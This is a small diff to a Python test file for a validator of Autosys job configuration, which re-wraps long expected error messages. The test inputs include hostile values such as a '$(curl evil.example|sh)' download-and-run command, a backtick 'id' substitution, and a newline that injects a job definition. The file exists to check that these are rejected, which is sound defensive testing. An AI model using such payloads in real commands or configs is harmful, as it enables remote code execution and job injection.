@@ -274,14 +274,16 @@ def _unchecked(config, section, domain=None, **values):
             "autosys",
             "customers",
             {"machine": "host\ninsert_job: PWN   job_type: CMD"},
-            "(domain 'customers', autosys.machine): machine 'host\\ninsert_job: PWN   job_type: CMD': contains control characters",
+            "(domain 'customers', autosys.machine): machine 'host\\ninsert_job: PWN   job_type: CMD': "
+            "contains control characters",
         ),
         ("autosys", "products", {"owner": "autosys\rx"}, "(domain 'products', autosys.owner)"),
         (
             "autosys",
             "customers",
             {"command": "autosys-bridge $(curl evil.example|sh);"},
-            "(domain 'customers', autosys.command): command 'autosys-bridge $(curl evil.example|sh); run customers extract': holds shell syntax",
+            "(domain 'customers', autosys.command): command "
+            "'autosys-bridge $(curl evil.example|sh); run customers extract': holds shell syntax",
         ),
         ("autosys", "customers", {"command": "autosys-bridge `id`"}, "autosys.command"),
         ("autosys", "vendors", {"profile": "/etc/p\x00"}, "(domain 'vendors', autosys.profile)"),
